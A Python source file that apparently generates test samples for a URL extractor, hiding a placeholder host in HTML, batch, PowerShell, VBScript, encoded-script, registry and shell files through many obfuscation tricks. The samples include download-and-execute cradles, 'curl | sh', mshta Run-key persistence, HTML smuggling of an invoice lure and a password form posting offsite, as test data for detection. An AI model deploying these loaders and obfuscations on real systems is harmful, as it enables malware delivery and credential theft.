"""Programs, alone and in pages, that put together where they lead."""

import base64
import gzip
from urllib.parse import quote

from corpus import Corpus
from pages_pieces import HOST, b64, page, script, zipped

# Of Microsoft's script encoder: what stands for each character from the blank to the tilde, in three alphabets, and which comes when.
ALPHABETS = (
    "~ZE:yY'vcbMQSR &Tq+f*X\x7f{01lI?x?_?)$/93o!u(BFJ\\H6K}]jPi#?pet,wD?m|C8^[nWL4r%VshUG25.dO;-Aaz\"`kN=",
    ",er[fuLEv*C3B cJZ8y2Wl+FRO=p?{?Q?z~;GAwV_&xndtg}h5\"U:`jqoI\\]'Y%|#m(19\x7f6T4bN0^s?Ka$MkD!7SXH.P-)?",
    "P\"Ja^][B`#e_~ORz!F &c*vG%,)i?'?g?bAZf2sMCq9|SH1rnpI?Kj.\x7f(5}$-T7{=l4mN+0otkL3V:xWw;D/YE\\h6Xy?u8U",
)
ORDER = "0120121221210212021200122102122100212120200120210212001220012021"
ESCAPED = {"<": "@!", ">": "@*", "@": "@$", "\n": "@&", "\r": "@#"}


def encoded(source: str) -> str:
    """As the script encoder writes it. Nobody looks at the checksum."""
    text = "".join(
        ESCAPED.get(character) or ALPHABETS[int(ORDER[at % 64])][ord(character) - 32]
        for at, character in enumerate(source)
    )
    length = base64.b64encode(len(source).to_bytes(4, "little")).decode()
    return f"#@~^{length}{text}AAAAAA==^#~@"


def smuggled(corpus: Corpus) -> None:
    def made(name: str, source: str, path: str, *more: str) -> None:
        corpus.add(f"smuggled-{name}.html", script(source), f"{HOST}/{path}", *more)

    made("location", f"window.location.href = '{HOST}/loc'", "loc")
    made("replace", f"location.replace('{HOST}/rep')", "rep")
    made("concat", "var u='htt'+'ps://wget'+\"cdn-fi\"+'les.com/con'+'cat'; location=u;", "concat")
    made("atob", f"location.href = atob('{b64(HOST + '/atob')}')", "atob")
    made(
        "atob-pieces",
        f"var a='{b64(HOST + '/pieces')[:11]}';var b='{b64(HOST + '/pieces')[11:]}';window.location=atob(a+b);",
        "pieces",
    )
    made("atob-short", f"var x=atob('{b64('//wgetcdn-files.com/s')}');location='https:'+x;", "s")
    made("twice", f"eval(atob(atob('{b64(b64('location={}'.format(repr(HOST + '/twice'))))}')))", "twice")
    made(
        "unescape",
        f"document.write(unescape('{''.join(f'%{c:02x}' for c in f'<a href={HOST}/unescape>x</a>'.encode())}'))",
        "unescape",
    )
    made(
        "wide-unescape",
        f"document.write(unescape('{''.join(f'%u{ord(c):04x}' for c in f'<a href={HOST}/wide>x</a>')}'))",
        "wide",
    )
    made(
        "component",
        f"document.write(decodeURIComponent('{quote(f'<a href={HOST}/component>x</a>', safe='')}'))",
        "component",
    )
    made("codes", f"location=String.fromCharCode({','.join(str(ord(c)) for c in HOST + '/codes')})", "codes")
    made(
        "codes-apply",
        f"var n=[{','.join(str(ord(c)) for c in HOST + '/apply')}];location=String.fromCharCode.apply(null,n)",
        "apply",
    )
    made("codes-sum", f"location=String.fromCharCode({','.join(f'{ord(c) + 3}-3' for c in HOST + '/sum')})", "sum")
    made(
        "codes-moved",
        f"var n=[{','.join(str(ord(c) + 7) for c in HOST + '/moved')}];var o='';n.forEach(function(c){{o+=String.fromCharCode(c-7)}});location=o",
        "moved",
    )
    made("hex", f"location='{''.join(f'{chr(92)}x{ord(c):02x}' for c in HOST + '/hex')}'", "hex")
    made("unicode", f"location='{''.join(f'{chr(92)}u{ord(c):04x}' for c in HOST + '/unicode')}'", "unicode")
    made(
        "join", f"location=[{','.join(repr(p) for p in ['https:', '', 'wgetcdn-files.com', 'join'])}].join('/')", "join"
    )
    made("reverse", f"location='{(HOST + '/reverse')[::-1]}'.split('').reverse().join('')", "reverse")
    made("template", "const h='wgetcdn-files.com';\nlocation.href = `https://wgetcdn-files.com/template`;", "template")
    made("substitute", f"location='{HOST.replace('t', '#')}/subs#i#ute'.replace(/#/g,'t')", "substitute")
    made("bracket", f"window['location']['href']=window['atob']('{b64(HOST + '/bracket')}')", "bracket")
    made("write", f"document.write('<form action=\"{HOST}/write\" method=post><input type=password></form>')", "write")
    made(
        "write-atob", f"document.write(atob('{b64(f'<html><form action={HOST}/form><input></form></html>')}'))", "form"
    )
    made(
        "blob-text",
        f"var b=new Blob([atob('{b64(page(f'<a href={HOST}/blob>x</a>'))}')],{{type:'text/html'}});",
        "blob",
    )
    content = zipped("inner.url", f"[InternetShortcut]\r\nURL={HOST}/lure\r\n".encode())
    source = f"var d='{b64(content)}';var bin=atob(d);var f=new Blob([bin]);var a=document.createElement('a');a.href=URL.createObjectURL(f);a.download='Invoice_44.zip';a.click();"
    corpus.add(
        "smuggled-blob-zip.html",
        script(source),
        f"{HOST}/lure",
        path="smuggled-blob-zip.html > Invoice_44.zip > inner.url",
    )
    made("setattribute", f"var f=document.forms[0];f.setAttribute('action',atob('{b64(HOST + '/attr')}'))", "attr")
    made("ajax", f"$.ajax({{url:'{HOST}/ajax',type:'POST'}})", "ajax")
    made("fetch", f"fetch(atob('{b64(HOST + '/fetch')}'),{{method:'POST'}})", "fetch")
    made("hex-bytes", f"var h='{(HOST + '/hexdigits').encode().hex()}';location=unhex(h)", "hexdigits")
    made("key", f"var k='{b64(bytes(b ^ 0x5A for b in page(f'<a href={HOST}/key>x</a>')))}';", "key")
    corpus.add("event.html", page(f"<body onload=\"location='{HOST}/onload'\">"), f"{HOST}/onload")
    corpus.add(
        "hidden-field.html",
        page(f"<input type=hidden id=d value='{b64(f'<html><a href={HOST}/hidden>open the invoice</a></html>')}'>"),
        f"{HOST}/hidden",
    )
    corpus.add("javascript-link.html", page(f"<a href=\"javascript:location='{HOST}/js'\">Open</a>"), f"{HOST}/js")
    # Code that only looks like hosts, and texts whose middle is not known.
    corpus.add(
        "code-only.html",
        script(
            "var a=document.location.hash;var b=app.info;s.id=a.top;var c='wget'+x+'.com';var d=atob('QUJDREVGR0hJSktMTU5PUA==');"
        ),
    )


def scripts(corpus: Corpus) -> None:
    command = f"IEX (New-Object Net.WebClient).DownloadString('{HOST}/ps')"
    corpus.add(
        "run.bat", f"@echo off\r\npowershell -nop -enc {b64(command.encode('utf-16-le'))}\r\n".encode(), f"{HOST}/ps"
    )
    corpus.add(
        "carets.cmd",
        b"@ech^o off\r\ncu^rl -o a.exe ht^tps^://wget^cdn-fi^les.com/carets\r\n",
        f"{HOST}/carets",
    )
    corpus.add(
        "names.bat",
        b"@echo off\r\nset a=https://wgetcdn\r\nset b=-files.com\r\ncurl %a%%b%/names -o x.exe\r\n",
        f"{HOST}/names",
    )
    corpus.add(
        "certutil.bat",
        f"@echo off\r\n(\r\necho -----BEGIN CERTIFICATE-----\r\n{chr(13) + chr(10)}".encode()
        + base64.encodebytes(
            f"start {HOST}/pem now; this line makes the block long enough to have two lines".encode()
        ).replace(b"\n", b"\r\n")
        + b"-----END CERTIFICATE-----\r\n",
        f"{HOST}/pem",
    )
    corpus.add("plain.ps1", command.encode(), f"{HOST}/ps")
    corpus.add(
        "concat.ps1",
        b"$a = 'https://wget' + 'cdn-files' + '.com/psconcat'\r\nInvoke-WebRequest $a\r\n",
        f"{HOST}/psconcat",
    )
    corpus.add(
        "format.ps1", b'$u = "{2}{0}{1}" -f "cdn-files.com","/format","https://wget"\r\niwr $u\r\n', f"{HOST}/format"
    )
    corpus.add(
        "join.ps1", b"$u = ('https://','wgetcdn-files','.com','/psjoin') -join ''\r\niwr $u\r\n", f"{HOST}/psjoin"
    )
    corpus.add(
        "chars.ps1",
        f"$u = {'+'.join(f'[char]{ord(c)}' for c in HOST + '/chars')}\r\niwr $u\r\n".encode(),
        f"{HOST}/chars",
    )
    corpus.add("ticks.ps1", b"I`n`v`oke-We`bReq`uest 'htt`ps://wgetcdn-fil`es.com/ticks'\r\n", f"{HOST}/ticks")
    packed = b64(gzip.compress(command.replace("/ps", "/gz").encode(), mtime=0))
    corpus.add(
        "gzip.ps1",
        f"$b=[Convert]::FromBase64String('{packed}');$s=New-Object IO.Compression.GzipStream($b)".encode(),
        f"{HOST}/gz",
    )
    corpus.add(
        "run.js",
        f"var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl {HOST}/js -o x.exe');".encode(),
        f"{HOST}/js",
    )
    corpus.add(
        "run.vbs",
        b'u = "ht" & "tps://wgetcdn" & "-files.com/vbs"\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", u, False\r\n',
        f"{HOST}/vbs",
    )
    corpus.add("reverse.vbs", f'u = StrReverse("{(HOST + "/strrev")[::-1]}")\r\n'.encode(), f"{HOST}/strrev")
    corpus.add("chars.vbs", f"u = {' & '.join(f'Chr({ord(c)})' for c in HOST + '/chr')}\r\n".encode(), f"{HOST}/chr")
    corpus.add("encoded.vbe", encoded(f'u = "ht" & "{HOST[2:]}/vbe"\r\nRun u\r\n').encode(), f"{HOST}/vbe")
    corpus.add("encoded.jse", encoded(f"var u = '{HOST}/jse'; if (a < b && c > d) go(u);\n").encode(), f"{HOST}/jse")
    program = encoded(f"location = '{HOST}/encoded'")
    tag = f'<script language="JScript.Encode">{program}</script>'
    corpus.add("encoded.html", page(tag), f"{HOST}/encoded")
    corpus.add(
        "run.hta",
        f'<html><head><HTA:APPLICATION ID="a"><script language="VBScript">CreateObject("WScript.Shell").Run "mshta {HOST}/hta"</script></head></html>'.encode(),
        f"{HOST}/hta",
    )
    corpus.add("run.wsf", f'<job><script language="JScript">var u="{HOST}/wsf";</script></job>'.encode(), f"{HOST}/wsf")
    program = b64(f"import urllib.request as r; r.urlopen('{HOST}/py')")
    corpus.add("run.py", f"import base64\nexec(base64.b64decode(b'{program}'))\n".encode(), f"{HOST}/py")
    corpus.add("run.sh", f"#!/bin/sh\necho {b64(f'curl -s {HOST}/sh | sh')} | base64 -d | sh\n".encode(), f"{HOST}/sh")
    corpus.add(
        "run.php",
        f"<?php $u = base64_decode('{b64(HOST + '/php')}'); header('Location: ' . $u);".encode(),
        f"{HOST}/php",
    )
    corpus.add(
        "run.reg",
        f'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="mshta {HOST}/reg"\r\n'.encode(
            "utf-16"
        ),
        f"{HOST}/reg",
    )
